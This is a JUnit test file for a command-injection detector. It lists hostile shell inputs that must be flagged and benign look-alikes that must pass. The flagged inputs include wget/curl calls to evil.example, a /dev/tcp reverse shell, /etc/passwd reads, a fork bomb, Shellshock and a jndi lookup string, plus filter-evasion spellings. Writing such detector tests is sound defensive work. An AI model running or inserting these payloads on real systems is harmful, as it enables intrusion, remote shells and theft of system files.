package dev.palisade.detection.input;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandInjectionDetectorTest {
    private static Detection cmdi(String value) {
        return Inspect.with(Category.CMDI, value);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "; id",
        "127.0.0.1; cat /etc/passwd",
        "x | whoami",
        "a || wget http://evil.example/s.sh",
        "1 && curl -s http://evil.example",
        "`id`",
        "$(whoami)",
        "foo;ls${IFS}-la",
        "x;cat$IFS/etc/passwd",
        "test\nuname -a",
        "\\nid\\n",
        "& dir C:\\",
        "| type C:\\Windows\\win.ini",
        "&& net user",
        "; c'a't /e't'c/pa's'swd",
        "; w\\ho\\am\\i",
        "/bin/ca? /et*/passwd",
        "{cat,/etc/passwd}",
        "() { :;}; /bin/bash -c 'id'",
        ":(){ :|:& };:",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "cat /etc/passwd",
        "ls -la /var/www",
        "FOR /F \"tokens=*\" %a IN ('dir /b') DO echo %a",
        "IF EXIST C:\\boot.ini ECHO found",
        "<!--#exec cmd=\"/bin/ls\" -->",
        ";system('id')",
        "\r\nRCPT TO:<victim@example.com>",
        "; sleep 5",
    })
    void detectsCommandsAShellWouldRun(String value) {
        assertNotNull(cmdi(value), Inspect.describe(Category.CMDI, value));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "Times & Schedule",
        "Johnson & Johnson; est. 1886",
        "hello; time he came",
        "a hero; more than that",
        "mammal;cat;ears",
        "ping pong tables",
        "time is of the essence",
        "The zip on my coat is stuck",
        "echo in the mirror",
        "Rock & Roll | Blues",
        "red;$5 each",
        "https://example.com/?a=1&b=2;c=3",
        "user@example.com",
        "{\"cmd\": \"list\", \"ids\": [1, 2]}",
        "if all else fails call grandma",
        "myfunction(){ echo hello }",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36",
        "We received this mail from Mars",
        "Hello! World.\ndata not found.\n",
        "The parameter 5 is&|.",
        "5 * 3 = 15; 6 / 2 = 3",
        "`social sciences'",
    })
    void leavesProseAndDataAlone(String value) {
        assertNull(cmdi(value), Inspect.describe(Category.CMDI, value));
    }

    @Test
    void ratesASeparatorThenACommandHigh() {
        Detection d = cmdi("x; uname -a");
        assertEquals(Confidence.HIGH, d.confidence());
        assertEquals("cmdi.command", d.reason());
    }

    /** {@code ${PATH:0:1}} is always {@code /}: a slash spelled so that a filter looking for one misses it. */
    @Test
    void readsTheFirstCharOfAnAbsolutePathVariableAsASlash() {
        ShellTokens t = ShellLexer.tokenize("${path:0:1}bin${home::1}id");
        assertEquals("/bin/id", t.words.substring(t.wordStart[0], t.wordEnd[0]));
        assertEquals(Confidence.HIGH, cmdi("; ${PATH:0:1}bin${PATH:0:1}id").confidence());
        assertEquals(Confidence.HIGH, cmdi(";cat ${HOME:0:1}etc${HOME:0:1}passwd").confidence());
        assertNull(cmdi("my ${HOME::1} folder"));
        assertNull(cmdi("${PATH}"));
    }

    @Test
    void undoesQuotingBeforeMatchingCommandNames() {
        ShellTokens t = ShellLexer.tokenize("c'a't \"/e\"tc/pa\\sswd");
        assertEquals("cat", t.words.substring(t.wordStart[0], t.wordEnd[0]));
        assertEquals("/etc/passwd", t.words.substring(t.wordStart[1], t.wordEnd[1]));
    }

    @Test
    void matchesGlobsAgainstKnownPaths() {
        assertEquals("/bin/cat", ShellGlob.firstMatch("/???/??t", 0, 8, ShellVocabulary.GLOB_TARGETS));
        assertNull(ShellGlob.firstMatch("/*", 0, 2, ShellVocabulary.GLOB_TARGETS), "'*' does not cross '/'");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "run=uname; $run -a",
        "x=who;y=ami;$x$y",
        "v=a;c${v}t /etc/hosts",
        "1;.system uname -a",
        "q\n.shell ls",
        "x;.databases",
        "w{h,x}oami",
        "{,$'uname',}",
        "find docs -ok touch x \\;",
        "find . -name x -execdir rm {} +",
        "vim notes.txt +!uname",
        "ok||(bash)",
        "${x:-$}{jndi:rmi://h.example/a}",
        "'uname -a",
        "a || dir | more",
        "https://shop.example/search?q=uname -a",
        "<?xml version=\"1.0\"?><req><host value=\"1.1.1.1; uname -a\"/></req>",
        "<?xml version=\"1.0\"?><req><q>$(whoami)</q></req>",
    })
    void detectsAssembledAndEmbeddedCommands(String value) {
        assertNotNull(cmdi(value), Inspect.describe(Category.CMDI, value));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "ansible-vault view vault.yml",
        "aa-teardown\n",
        "cmd=ssh-keygen",
        "sudoedit hosts",
        "npm install left-pad",
        "apt-get install netcat\n",
        "; netsh advfirewall show allprofiles",
    })
    void detectsAValueThatIsOneAdministrationCommandLine(String value) {
        Detection d = cmdi(value);
        assertNotNull(d, Inspect.describe(Category.CMDI, value));
        assertEquals(Confidence.MEDIUM, d.confidence(), Inspect.describe(Category.CMDI, value));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "ansible-vault keeps secrets, says the team",
        "wget",
        "python tutorial",
        "npm packages for charts",
        "pip install",
        "total=5; $5 each",
        ".net developers; .net core",
        "see the notes; .dump files of old",
        "vi ringrazio!!! a presto",
        "'cause I said so",
        "\"an opening quote without end",
        "{\"a\":1,\"b\":2}",
        "<?xml version=\"1.0\"?><note><to>Tove</to><body>Bring the cat; see you & the dog</body></note>",
        "<p class=\"a;b\">id</p>",
        "https://shop.example/search?q=cat food",
        "https://shop.example/search?q=ssh keys",
        "see https://example.org/?id=5 for details",
        "find the -exec option in man pages",
        "ssh-keygen tutorial for beginners",
        "<?xml version=\"1.0\"?><order><note>Leave it at the door; ring twice &amp; wait</note></order>",
    })
    void leavesLookAlikesOfTheNewRulesAlone(String value) {
        assertNull(cmdi(value), Inspect.describe(Category.CMDI, value));
    }

    @Test
    void expandsBracesWithTheirGluedPrefixAndSuffix() {
        ShellTokens t = ShellLexer.tokenize("c{a,u}t -x");
        assertEquals("cat", t.words.substring(t.wordStart[0], t.wordEnd[0]));
        assertEquals("cut", t.words.substring(t.wordStart[1], t.wordEnd[1]));
        assertEquals("-x", t.words.substring(t.wordStart[2], t.wordEnd[2]));
    }

    @Test
    void keepsBraceExpansionWordsAboutAsLongAsTheValue() {
        StringBuilder value = new StringBuilder();
        for (int i = 0; i < 500; i++) {
            value.append("prefixprefixpref{a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p}suffixsuffixsuff ");
        }
        ShellTokens t = ShellLexer.tokenize(value.toString());
        assertTrue(t.words.length() < 2 * value.length(), t.words.length() + " word chars for " + value.length());
    }
}
